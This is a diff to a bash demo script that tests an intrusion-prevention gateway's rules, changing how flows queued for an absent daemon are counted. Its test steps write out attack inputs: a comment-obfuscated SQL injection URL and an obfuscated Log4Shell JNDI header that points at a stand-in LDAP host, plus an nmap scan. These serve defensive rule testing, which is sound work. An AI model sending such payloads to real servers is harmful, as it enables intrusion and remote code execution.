@@ -144,22 +144,24 @@ new_events() {
 }
 
 # step EXPECT SID TITLE -- CMD...: run CMD in the client and judge it.
-#   EXPECT allowed  the client succeeds and no rule acts on it (a slow-path
-#                   rule's fast pattern may punt it: the daemon decides)
+#   EXPECT allowed  the client succeeds and no kernel rule acts on it (its
+#                   flow may go to the daemon's queue: the daemon decides)
 #          blocked  the client fails and rule SID blocked it (an event)
 #          alerted  the client succeeds and rule SID alerted (an event)
-#          punted   the client succeeds and rule SID punted the packet to
-#                   the daemon's queue (no daemon here: fail-open)
+#          queued   the client succeeds and its flow, which rule SID (a
+#                   daemon rule) can concern, was chosen for the daemon
+#                   (no daemon here: fail-open, counted as daemon_absent)
 # CMD's exit status is the client's view; for UDP (no answer to wait for)
 # the server's log says whether the datagram arrived.
 step() {
-	local expect=$1 sid=$2 what=$3 ev0 acc0 log0 rc seen evs hits got verdict ok=1
+	local expect=$1 sid=$2 what=$3 ev0 acc0 log0 abs0 rc seen evs hits got verdict ok=1
 
 	shift 4
 	steps=$((steps + 1))
 	ev0=$(wc -l <"$tmp/events")
 	acc0=$(wc -l <"$tmp/access.log")
 	log0=$(wc -l <"$tmp/syslog")
+	abs0=$(gw_counter daemon_absent)
 
 	case $1 in
 	web)	# curl as a client runs it, printing "HTTP 200, N bytes"
@@ -212,7 +214,8 @@ step() {
 	allowed) [ "$rc" = 0 ] && [ -z "$evs" ] || ok=0 ;;
 	blocked) [ "$rc" != 0 ] && grep -q " $sid blocked$" <<<"$evs" || ok=0 ;;
 	alerted) [ "$rc" = 0 ] && grep -qx "[a-z]* $sid" <<<"$evs" || ok=0 ;;
-	punted) [ "$rc" = 0 ] && [[ ", $hits," == *", punt $sid x"* ]] || ok=0 ;;
+	queued) [ "$rc" = 0 ] && [ "$(gw_counter daemon_absent)" -gt "$abs0" ] || ok=0
+		hits+=" (flow for the daemon: $(($(gw_counter daemon_absent) - abs0)) packets passed, no daemon)" ;;
 	esac
 	# A drop rule that hit without blocking: learn mode.
 	grep -qE '^(drop|reject) [0-9]+$' <<<"$evs" && hits+=" (learn mode: not blocked)"
@@ -311,13 +314,13 @@ main() {
 		nmap -n -Pn -sT -p 22,80 --script http-title "$server4"
 	sed -n 's/^\(PORT\|[0-9]*\/tcp\||_http-title\)/      nmap: \1/p' "$tmp/out"
 
-	title "Rules that need the daemon: the kernel punts their packets"
-	step punted 9000303 "SQL injection: UNION ALL SELECT with comments" -- \
+	title "Rules that need the daemon: the kernel queues their flows"
+	step queued 9000303 "SQL injection: UNION ALL SELECT with comments" -- \
 		web "$s/item?id=1/**/UNION/**/ALL/**/SELECT/**/NULL"
-	step punted 9000404 "Log4Shell, obfuscated lookup" -- \
+	step queued 9000404 "Log4Shell, obfuscated lookup" -- \
 		web -H 'X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.7/a}' "$s/"
 	say "    (nfipsd, the daemon that evaluates these rules in full, is not part"
-	say "    of this demo yet: with fail-open, the default, punted packets pass.)"
+	say "    of this demo yet: with fail-open, the default, their flows pass.)"
 
 	title "Learn mode: nothing is blocked, everything alerts"
 	gwctl mode learn >/dev/null || fail "mode learn"
